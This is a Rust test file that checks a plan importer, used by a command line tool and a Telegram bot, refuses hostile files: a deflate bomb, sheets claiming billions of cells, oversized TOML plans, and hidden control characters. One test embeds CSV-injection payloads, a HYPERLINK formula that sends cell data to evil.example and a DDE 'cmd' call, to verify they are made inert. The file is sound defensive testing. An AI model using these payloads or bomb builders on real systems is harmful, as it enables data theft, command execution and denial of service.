//! Files from outside, made to hurt: workbooks whose cells or parts claim gigabytes, sheets of
//! 100,000 rows, plans of thousands of activities, plan texts that a spreadsheet would run.
//! Each is refused quickly, with bounded memory, by the command line and by the running bot,
//! with a problem list that names the cell without echoing it.

use crate::support;

use std::io::Write;
use std::time::{Duration, Instant};

use dwcp_feedback::domain::{Lang, PlanProblem, ProblemKind};
use dwcp_feedback::messages::plan_problem;
use dwcp_feedback::plan_io::{read_plan, write_csv_template, MAX_SHEET_COLUMNS, MAX_SHEET_ROWS};
use support::fake_telegram::FakeTelegram;
use support::harness::{binary, database};

/// Peak memory allowed to a process that was handed a hostile file ("tens of MB").
const MAX_PEAK_KB: u64 = 100 * 1024;

/// A workbook of the given parts, deflated, as Excel would zip it.
fn workbook(sheet: impl FnOnce(&mut dyn Write)) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let deflated = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(true);
    let parts: [(&str, &str); 4] = [
        (
            "[Content_Types].xml",
            r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#,
        ),
        (
            "_rels/.rels",
            r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
        ),
        (
            "xl/workbook.xml",
            r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Plan" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
        ),
        (
            "xl/_rels/workbook.xml.rels",
            r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#,
        ),
    ];
    for (name, text) in parts {
        zip.start_file(name, deflated).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.start_file("xl/worksheets/sheet1.xml", deflated)
        .unwrap();
    sheet(&mut zip);
    zip.finish().unwrap().into_inner()
}

const SHEET_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">"#;

/// Two cells, at A1 and far away: 1.5 KB that a grid reader turns into billions of cells.
fn two_distant_cells(far: &str, dimension: bool) -> Vec<u8> {
    workbook(|w| {
        let dim = if dimension {
            format!(r#"<dimension ref="A1:{far}"/>"#)
        } else {
            String::new()
        };
        write!(
            w,
            r#"{SHEET_HEAD}{dim}<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>priority</t></is></c></row><row r="{row}"><c r="{far}"><v>1</v></c></row></sheetData></worksheet>"#,
            row = far.trim_start_matches(char::is_alphabetic)
        )
        .unwrap();
    })
}

/// A sheet part that inflates to 64 MB (of one repeated comment) from a file of ~70 KB.
fn deflate_bomb() -> Vec<u8> {
    workbook(|w| {
        write!(w, "{SHEET_HEAD}<!--").unwrap();
        let chunk = vec![b'x'; 1 << 20];
        for _ in 0..64 {
            w.write_all(&chunk).unwrap();
        }
        write!(w, "--><sheetData/></worksheet>").unwrap();
    })
}

/// 100,000 activity rows, in a real workbook as Excel would save it.
fn hundred_thousand_rows() -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("big.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet().set_name("Plan").unwrap();
    for (c, name) in dwcp_feedback::plan_io::COLUMNS.iter().enumerate() {
        sheet.write_string(0, c as u16, *name).unwrap();
    }
    for r in 1..=100_000u32 {
        sheet.write_string(r, 0, "P1").unwrap();
        sheet.write_string(r, 5, format!("A{r}")).unwrap();
    }
    book.save(&path).unwrap();
    std::fs::read(path).unwrap()
}

fn english(p: &PlanProblem) -> String {
    plan_problem(p, Lang::En)
}

fn refused_as(name: &str, bytes: &[u8]) -> Vec<PlanProblem> {
    let started = Instant::now();
    let problems = read_plan(name, bytes).expect_err("a hostile file is refused");
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "refused in {:?}",
        started.elapsed()
    );
    problems
}

#[test]
fn a_sheet_claiming_a_distant_cell_is_refused_without_building_the_grid() {
    for (far, dimension) in [
        ("XFD1048576", true),
        ("XFD1048576", false),
        ("M1048576", false),
    ] {
        let bytes = two_distant_cells(far, dimension);
        assert!(bytes.len() < 2_000, "{} bytes", bytes.len());
        let problems = refused_as("plan.xlsx", &bytes);
        assert!(
            matches!(
                problems[..],
                [PlanProblem {
                    kind: ProblemKind::SheetTooBig {
                        rows: 1_048_576,
                        max_rows: MAX_SHEET_ROWS,
                        max_columns: MAX_SHEET_COLUMNS,
                        ..
                    },
                    ..
                }]
            ),
            "{far}: {problems:?}"
        );
        assert!(
            english(&problems[0]).contains("delete the rows"),
            "{}",
            english(&problems[0])
        );
    }
}

#[test]
fn a_deflate_bomb_is_measured_before_it_is_parsed() {
    let bytes = deflate_bomb();
    assert!(bytes.len() < 200_000, "{} bytes", bytes.len());
    let problems = refused_as("plan.xlsx", &bytes);
    assert!(
        matches!(
            problems[..],
            [PlanProblem {
                kind: ProblemKind::UnpacksTooBig { max_mb: 16 },
                ..
            }]
        ),
        "{problems:?}"
    );
}

#[test]
fn a_sheet_of_100000_rows_is_refused() {
    let problems = refused_as("plan.xlsx", &hundred_thousand_rows());
    assert!(
        matches!(
            problems[..],
            [PlanProblem {
                kind: ProblemKind::SheetTooBig { .. }
                    | ProblemKind::UnpacksTooBig { .. }
                    | ProblemKind::FileTooBig { .. },
                ..
            }]
        ),
        "{problems:?}"
    );
    // The same rows as CSV (2 MB at most) are refused by their count, not checked one by one.
    let mut csv = dwcp_feedback::plan_io::COLUMNS.join(",");
    for r in 1..=100_000 {
        csv.push_str(&format!("\nP1,,,,,A{r},,,,,,,"));
    }
    let problems = refused_as("plan.csv", csv.as_bytes());
    assert!(
        matches!(
            problems[..],
            [PlanProblem {
                kind: ProblemKind::SheetTooBig { .. },
                ..
            }]
        ),
        "{problems:?}"
    );
}

#[test]
fn a_plan_beyond_the_limits_is_refused_before_its_activities_are_checked() {
    let plan = dwcp_feedback::plan_io::default_plan();
    let mut toml = dwcp_feedback::plan_io::DEFAULT_PLAN_TOML.to_string();
    for i in 0..400 {
        toml.push_str(&format!(
            "\n[[activity]]\ncode = \"X{i}\"\npriority = \"P1\"\n"
        ));
    }
    for i in 0..20 {
        toml.push_str(&format!("\n[[priority]]\ncode = \"Q{i}\"\n"));
    }
    let problems = refused_as("plan.toml", toml.as_bytes());
    let text: Vec<String> = problems.iter().map(english).collect();
    assert_eq!(
        text,
        [
            format!(
                "the plan has {} priorities; at most 12 fit on the members' screens",
                plan.priorities.len() + 20
            ),
            format!(
                "the plan has {} activities; a plan holds at most 300",
                plan.activities.len() + 400
            ),
        ]
    );
}

#[test]
fn a_problem_names_a_huge_cell_without_echoing_it() {
    let mut csv = String::from("plan_label,2026-2027\n");
    csv.push_str(&"Z".repeat(500_000));
    csv.push_str(",x\npriority\n");
    let problems = refused_as("plan.csv", csv.as_bytes());
    let longest = problems.iter().map(|p| english(p).len()).max().unwrap();
    assert!(longest < 300, "a problem of {longest} bytes");
    assert!(
        problems.iter().any(|p| english(p).contains("ZZZZ…")),
        "{problems:?}"
    );
}

#[test]
fn the_csv_template_keeps_formulas_inert_and_reads_back_byte_for_byte() {
    let mut plan = dwcp_feedback::plan_io::default_plan();
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3",
        "'=already quoted",
    ];
    for (activity, text) in plan.activities.iter_mut().zip(hostile) {
        activity.description.en = text.to_string();
    }
    plan.activities[0].title.en = "- a dash first".into();
    let mut bytes = Vec::new();
    write_csv_template(&mut bytes, Some(&plan)).unwrap();
    let text = String::from_utf8(bytes.clone()).unwrap();
    let mut cells = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for record in cells.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell}"
            );
        }
    }
    assert_eq!(read_plan("plan.csv", &bytes).unwrap(), plan);
}

/// Runs a child to its end, watching its peak memory (KB). Read from /proc while it runs: the
/// kernel's own accounting of a child (wait4) counts the test binary it was forked from.
fn run_measured(mut command: std::process::Command) -> (std::process::ExitStatus, String, u64) {
    let mut child = command
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut out = String::new();
        std::io::Read::read_to_string(&mut stdout, &mut out).unwrap();
        out
    });
    let mut peak = 0;
    let status = loop {
        if let Some(kb) = peak_kb_of(child.id()) {
            peak = peak.max(kb);
        }
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        std::thread::sleep(Duration::from_millis(2));
    };
    (status, reader.join().unwrap(), peak)
}

#[test]
fn the_command_line_refuses_each_with_bounded_memory_and_reads_no_huge_file() {
    let (dir, url) = database();
    let files = [
        ("distant.xlsx", two_distant_cells("XFD1048576", true)),
        ("bomb.xlsx", deflate_bomb()),
        ("rows.xlsx", hundred_thousand_rows()),
    ];
    for (name, bytes) in files {
        let path = dir.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_dwcp-feedback"));
        command
            .args(["plan", "import"])
            .arg(&path)
            .env("DATABASE_URL", &url);
        let started = Instant::now();
        let (status, out, peak_kb) = run_measured(command);
        assert!(!status.success(), "{name}: {out}");
        assert!(
            out.contains("the active plan is unchanged"),
            "{name}: {out}"
        );
        assert!(out.len() < 2_000, "{name}: {} bytes printed", out.len());
        assert!(peak_kb < MAX_PEAK_KB, "{name}: peak {peak_kb} KB");
        assert!(started.elapsed() < Duration::from_secs(10), "{name}");
    }
    // A 1 GB file (sparse: no disk used) is refused by its size, not read.
    let huge = dir.path().join("huge.xlsx");
    std::fs::File::create(&huge)
        .unwrap()
        .set_len(1 << 30)
        .unwrap();
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_dwcp-feedback"));
    command
        .args(["plan", "import"])
        .arg(&huge)
        .env("DATABASE_URL", &url);
    let (status, _, peak_kb) = run_measured(command);
    assert!(!status.success());
    assert!(peak_kb < MAX_PEAK_KB, "peak {peak_kb} KB");
}

/// The process's peak resident memory so far; None once it has exited.
fn peak_kb_of(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_bot_refuses_each_stays_up_and_keeps_its_memory() {
    const ADMIN: i64 = 900;
    let fake = FakeTelegram::start().await;
    let (_dir, url) = database();
    let mut bot = binary(&fake, &url, false)
        .env("DWCP_ADMINS", ADMIN.to_string())
        .spawn()
        .unwrap();
    let admin = fake.user(ADMIN, "Secretariat", Some("en"));
    admin.send_text("/start");
    admin.reply().await;
    let files = [
        ("distant.xlsx", two_distant_cells("XFD1048576", true)),
        ("bomb.xlsx", deflate_bomb()),
        ("rows.xlsx", hundred_thousand_rows()),
    ];
    for (name, bytes) in files {
        let started = Instant::now();
        admin.send_document(name, &bytes);
        admin.reply().await; // checking…
        let report = admin.reply().await;
        assert!(report.text.contains("problem"), "{name}: {}", report.text);
        assert!(
            report.text.chars().count() < 1_000,
            "{name}: {}",
            report.text
        );
        assert!(started.elapsed() < Duration::from_secs(10), "{name}");
    }
    let peak_kb = peak_kb_of(bot.id()).expect("the bot is running");
    // Still answering as before.
    admin.send_text("/help");
    admin.reply().await;
    assert!(
        bot.try_wait().unwrap().is_none(),
        "the bot is still running"
    );
    bot.kill().unwrap();
    bot.wait().unwrap();
    assert!(peak_kb < MAX_PEAK_KB, "peak {peak_kb} KB");
}

#[test]
fn a_toml_file_declaring_a_hundred_thousand_activities_is_refused_before_it_is_parsed() {
    let mut toml = String::from("label = \"x\"\nstatus = \"draft\"\n");
    toml.push_str(&"[[activity]]\n".repeat(100_000));
    assert!(toml.len() > 1_000_000);
    let problems = refused_as("plan.toml", toml.as_bytes());
    assert!(
        matches!(
            problems[..],
            [PlanProblem {
                kind: ProblemKind::TooManyActivities { count: 100_000, .. },
                ..
            }]
        ),
        "{problems:?}"
    );
    // Inline tables count as tables.
    let inline = format!("activity = [{}]\n", "{ code = \"A\" },".repeat(50_000));
    let problems = refused_as("plan.toml", inline.as_bytes());
    assert!(
        matches!(
            problems[..],
            [PlanProblem {
                kind: ProblemKind::TooManyActivities { .. },
                ..
            }]
        ),
        "{problems:?}"
    );
}

#[test]
fn plan_texts_with_controls_or_bidi_overrides_are_refused_where_they_are() {
    let draft = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("plans/dwcp-2026-2027-draft.toml"),
    )
    .unwrap();
    for (hidden, code) in [
        ("\\u0000", 0x0000),
        ("\\u202E", 0x202E),
        ("\\u001B", 0x001B),
    ] {
        // The first activity title gets the character, written as a TOML escape.
        let at = draft.find("title_en = \"").unwrap();
        let at = draft[at + 1..].find("title_en = \"").unwrap() + at + 1 + "title_en = \"".len();
        let bad = format!("{}{hidden}{}", &draft[..at], &draft[at..]);
        let problems = read_plan("plan.toml", bad.as_bytes()).expect_err("refused");
        assert!(
            problems
                .iter()
                .any(|p| p.kind == ProblemKind::HiddenControl(code) && p.field.is_some()),
            "{hidden}: {problems:?}"
        );
        assert!(english(&problems[0]).contains("invisible control character"));
    }
    // Tabs and line breaks in a description are fine: the draft itself has them.
    assert!(read_plan("plan.toml", draft.as_bytes()).is_ok());
}
